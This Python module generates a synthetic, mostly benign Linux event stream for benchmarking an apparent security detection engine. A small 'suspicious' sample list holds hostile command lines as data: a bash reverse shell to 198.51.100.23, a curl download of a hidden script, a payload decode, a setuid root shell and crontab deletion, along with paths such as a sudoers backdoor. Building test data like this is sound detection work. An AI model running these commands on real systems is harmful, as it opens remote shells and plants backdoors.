"""A realistic mixed Linux event stream for the engine benchmark, shaped like the wire contract.

Mostly benign: web servers, PHP workers, cron jobs, backups, administrators' shells, log and upload
writes, SSH and sudo lines; about one process event in 200 and one file event in 100 is suspicious.
"""

from __future__ import annotations

import random
from typing import Any

_HOSTS = [
    (f"host-{n:02d}", f"srv-{role}-{n:02d}") for n, role in enumerate(["web", "db", "app", "mail", "dns"] * 4)
]

# (executable, command line, parent executable, parent command line, user)
_BENIGN_PROCESSES = [
    ("/usr/bin/ls", "ls -la /var/www/html", "/bin/bash", "-bash", "deploy"),
    ("/usr/bin/ls", "ls --color=auto /home/deploy", "/bin/bash", "-bash", "deploy"),
    (
        "/bin/sh",
        "/bin/sh -c run-parts --report /etc/cron.hourly",
        "/usr/sbin/cron",
        "/usr/sbin/CRON -f",
        "root",
    ),
    (
        "/usr/bin/php",
        "/usr/bin/php /var/www/html/artisan schedule:run",
        "/bin/sh",
        "sh -c cd /var/www",
        "www-data",
    ),
    (
        "/usr/sbin/php-fpm8.2",
        "php-fpm: pool www",
        "/usr/sbin/php-fpm8.2",
        "php-fpm: master process",
        "www-data",
    ),
    ("/usr/sbin/nginx", "nginx: worker process", "/usr/sbin/nginx", "nginx: master process", "www-data"),
    (
        "/usr/bin/python3",
        "/usr/bin/python3 /opt/app/manage.py runworker default",
        "/sbin/init",
        "/sbin/init",
        "app",
    ),
    ("/usr/bin/python3", "python3 -m pip list --outdated", "/bin/bash", "-bash", "deploy"),
    ("/usr/bin/systemctl", "systemctl status nginx.service", "/bin/bash", "-bash", "root"),
    ("/usr/bin/grep", "grep -c ERROR /var/log/nginx/error.log", "/bin/bash", "-bash", "deploy"),
    (
        "/usr/bin/tar",
        "tar -czf /backup/www-20261122.tar.gz /var/www/html",
        "/bin/sh",
        "sh /opt/backup.sh",
        "root",
    ),
    ("/usr/sbin/logrotate", "/usr/sbin/logrotate /etc/logrotate.conf", "/bin/sh", "sh -c logrotate", "root"),
    ("/usr/bin/mysqldump", "mysqldump --single-transaction portal", "/bin/sh", "sh /opt/backup.sh", "root"),
    ("/usr/bin/git", "git pull --ff-only origin main", "/bin/bash", "-bash", "deploy"),
    ("/usr/bin/awk", "awk {print $1} /var/log/nginx/access.log", "/bin/bash", "-bash", "deploy"),
    ("/usr/bin/df", "df -h /", "/usr/bin/python3", "/usr/bin/python3 /opt/monitor/agent.py", "monitor"),
]
_SUSPICIOUS_PROCESSES = [
    (
        "/bin/bash",
        "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
        "/usr/sbin/php-fpm8.2",
        "php-fpm: pool www",
        "www-data",
    ),
    ("/usr/bin/curl", "curl -s http://198.51.100.23/x.sh -o /tmp/.x.sh", "/bin/sh", "sh -c curl", "www-data"),
    ("/usr/bin/base64", "base64 -d /tmp/.payload", "/bin/sh", "sh", "www-data"),
    ("/usr/bin/chmod", "chmod +s /tmp/.rootshell", "/bin/bash", "bash", "root"),
    ("/usr/bin/whoami", "whoami", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "www-data"),
    ("/usr/bin/crontab", "crontab -r", "/bin/bash", "bash", "deploy"),
]
_BENIGN_FILES = [
    "/var/www/html/index.php",
    "/var/www/html/uploads/2026/11/scan-{n}.pdf",
    "/var/www/html/storage/logs/laravel.log",
    "/var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/lib/mysql/portal/orders.ibd",
    "/tmp/sess_{n}",
    "/home/deploy/.bash_history",
    "/backup/www-20261122.tar.gz",
    "/etc/nginx/sites-enabled/portal.conf",
]
_SUSPICIOUS_FILES = [
    "/etc/sudoers.d/zz-backdoor",
    "/etc/cron.d/.update",
    "/root/.ssh/authorized_keys",
    "/etc/passwd",
]
# (program, log line, user, outcome)
_AUTH_LINES = [
    (
        "sshd",
        "Accepted publickey for deploy from 10.20.1.5 port 50022 ssh2: ED25519 SHA256:Zx1",
        "deploy",
        "success",
    ),
    ("sshd", "Failed password for invalid user admin from 198.51.100.77 port 41022 ssh2", "admin", "failure"),
    ("sshd", "Failed password for root from 198.51.100.77 port 41030 ssh2", "root", "failure"),
    (
        "sudo",
        "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx",
        "deploy",
        "success",
    ),
    ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", "root", "success"),
    (
        "su",
        "pam_unix(su:session): session opened for user postgres(uid=113) by deploy(uid=1000)",
        "postgres",
        "success",
    ),
]


def linux_stream(count: int, rng: random.Random) -> list[dict[str, Any]]:
    """``count`` events: 60 % process exec, 25 % file changes, 15 % authentication log lines."""
    events = []
    for sequence in range(count):
        host_id, host_name = rng.choice(_HOSTS)
        roll = rng.random()
        if roll < 0.60:
            body = _process(
                rng.choice(_SUSPICIOUS_PROCESSES if rng.random() < 0.005 else _BENIGN_PROCESSES), rng
            )
        elif roll < 0.85:
            path = rng.choice(_SUSPICIOUS_FILES if rng.random() < 0.01 else _BENIGN_FILES)
            body = _file(path.format(n=rng.randint(1, 99_999)), rng)
        else:
            body = _auth(rng.choice(_AUTH_LINES), rng)
        meta = body.pop("event")
        minute, second, hundredth = sequence // 6000 % 60, sequence // 100 % 60, sequence % 100
        events.append(
            {
                "@timestamp": f"2026-11-22T08:{minute:02d}:{second:02d}.{hundredth:02d}0000Z",
                "event": {
                    "id": f"{host_id}-{sequence}",
                    "kind": "event",
                    "module": "canhgac",
                    "sequence": sequence,
                }
                | meta,
                "host": {"id": host_id, "name": host_name, "os": {"type": "linux", "family": "debian"}},
                "agent": {"id": f"agent-{host_id}", "type": "canhgac", "version": "0.1.0"},
                "organization": {"id": "so-tttt", "name": "Sở Thông tin và Truyền thông"},
                "canhgac": {
                    "contract_version": 1,
                    "system": {"id": "cong-dich-vu-cong", "security_level": 3},
                },
                "ecs": {"version": "9.0.0"},
            }
            | body
        )
    return events


def _process(sample: tuple[str, str, str, str, str], rng: random.Random) -> dict[str, Any]:
    executable, command_line, parent, parent_command_line, user = sample
    pid = rng.randint(1000, 400_000)
    return {
        "event": {"dataset": "canhgac.process", "action": "exec", "category": ["process"], "type": ["start"]},
        "process": {
            "pid": pid,
            "executable": executable,
            "name": executable.rsplit("/", 1)[-1],
            "command_line": command_line,
            "args": command_line.split(),
            "working_directory": "/var/www/html",
            "user": {"name": user, "id": "0" if user == "root" else "33"},
            "parent": {
                "pid": pid - rng.randint(1, 50),
                "executable": parent,
                "name": parent.rsplit("/", 1)[-1],
                "command_line": parent_command_line,
            },
        },
        "user": {"name": user},
    }


def _file(path: str, rng: random.Random) -> dict[str, Any]:
    action = rng.choice(["modification", "modification", "creation", "attributes_modification", "deletion"])
    directory, _, name = path.rpartition("/")
    return {
        "event": {"dataset": "canhgac.file", "action": action, "category": ["file"], "type": ["change"]},
        "file": {
            "path": path,
            "name": name,
            "directory": directory,
            "type": "file",
            "size": rng.randint(10, 90_000),
            "mode": "0644",
            "owner": "root",
        }
        | ({"extension": name.rpartition(".")[2]} if "." in name else {}),
    }


def _auth(sample: tuple[str, str, str, str], rng: random.Random) -> dict[str, Any]:
    program, line, user, outcome = sample
    return {
        "event": {
            "dataset": "canhgac.authentication",
            "action": "ssh_login" if program == "sshd" else "user_login",
            "category": ["authentication"],
            "type": ["start"],
            "outcome": outcome,
        },
        "message": f"{program}[{rng.randint(300, 90_000)}]: {line}",
        "process": {"name": program, "pid": rng.randint(300, 90_000)},
        "user": {"name": user},
        "source": {"ip": "198.51.100.77", "port": 41022},
    }
